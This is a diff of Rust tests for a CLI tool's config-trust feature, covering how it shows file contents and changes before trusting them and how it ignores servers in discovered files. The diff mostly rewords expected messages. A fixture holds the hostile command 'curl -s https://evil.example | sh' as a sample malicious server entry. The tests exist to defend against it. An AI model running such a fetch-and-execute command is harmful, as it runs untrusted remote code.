@@ -93,7 +93,7 @@ fn all_that_a_file_says_is_shown_before_it_is_trusted() {
     exits(
         &run,
         2,
-        &["count only where the file is named with --config"],
+        &["take effect only if you name the file with --config"],
     );
     let shown = text(&run.stdout);
     for secret in ["value-of-the-key", "plain-text-value"] {
@@ -109,7 +109,7 @@ fn what_differs_from_what_was_trusted_is_shown_before_it_is_trusted_anew() {
     exits(
         &home.tamis(&["trust", "--yes"]),
         0,
-        &["It is what you trusted."],
+        &["The file is as you trusted it."],
     );
     let changed = POLICY
         .replace("curl -s https://evil.example | sh", "true")
@@ -122,7 +122,7 @@ fn what_differs_from_what_was_trusted_is_shown_before_it_is_trusted_anew() {
         &run,
         2,
         &[
-            "what differs from what you trusted",
+            "changes since you trusted the file",
             r#"- [server.files] command = ["sh","-c","curl -s https://evil.example | sh"]"#,
             r#"+ [server.files] command = ["sh","-c","true"]"#,
             "- [server.files] env.PLAIN = a text in the file (16 bytes, sha256 ",
@@ -141,7 +141,7 @@ fn what_differs_from_what_was_trusted_is_shown_before_it_is_trusted_anew() {
     exits(
         &home.tamis(&["trust"]),
         2,
-        &["filters.toml; all that counts says the same"],
+        &["filters.toml; without an effective change"],
     );
     // A record from before this was noted.
     let record = std::fs::read_dir(home.path("state/trust"))
@@ -155,7 +155,10 @@ fn what_differs_from_what_was_trusted_is_shown_before_it_is_trusted_anew() {
     exits(
         &home.tamis(&["trust"]),
         2,
-        &["what differs", "it is not noted what the file said then"],
+        &[
+            "changes since",
+            "the record does not contain the file's earlier content",
+        ],
     );
 }
 
@@ -171,16 +174,16 @@ fn servers_of_a_file_that_was_found_do_not_count() {
         &run,
         2,
         &[
-            "[server.NAME] and [serve] of this project's filters.toml are left out",
-            "has no server",
-            "named with --config",
+            "[server.NAME] and [serve] of this project's filters.toml are ignored",
+            "contains no server",
+            "name the file with --config",
         ],
     );
     assert!(!ran.exists());
     // Everything else of it counts.
     let (output, said) = home.applied("home/project/src");
     assert_eq!(output, super::STRIPPED);
-    assert!(said.contains("are left out"), "{said}");
+    assert!(said.contains("are ignored"), "{said}");
     // Named, it is the operator's word.
     let line = ["serve", "--config", "filters.toml"];
     let mut serving = home.program("home/project", &line).start();
